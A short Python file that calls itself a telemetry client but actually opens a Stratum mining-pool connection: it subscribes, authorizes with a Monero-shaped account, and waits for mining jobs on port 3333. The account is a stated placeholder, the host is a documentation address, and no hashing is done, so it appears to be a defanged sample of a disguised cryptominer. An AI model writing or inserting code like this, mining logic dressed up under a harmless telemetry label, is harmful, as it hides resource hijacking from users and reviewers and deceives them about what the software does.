"""Telemetry client: a small line protocol over TCP with JSON messages."""

import json
import socket
import time

HOST = "203.0.113.71"
PORT = 3333
# Not a wallet: the right shape, and no valid checksum.
ACCOUNT = "48" + "x" * 93


class Telemetry:
    def __init__(self, host: str, port: int) -> None:
        self.sock = socket.create_connection((host, port), timeout=30)
        self.number = 0

    def call(self, method: str, params: list) -> dict:
        self.number += 1
        message = {"id": self.number, "method": method, "params": params}
        self.sock.sendall((json.dumps(message) + "\n").encode())
        return json.loads(self.sock.makefile().readline())


def main() -> None:
    client = Telemetry(HOST, PORT)
    client.call("mining.subscribe", ["telemetry/1.0"])
    client.call("mining.authorize", [ACCOUNT, "x"])
    while True:
        job = client.sock.recv(4096)
        if not job:
            break
        time.sleep(0.1)


if __name__ == "__main__":
    main()
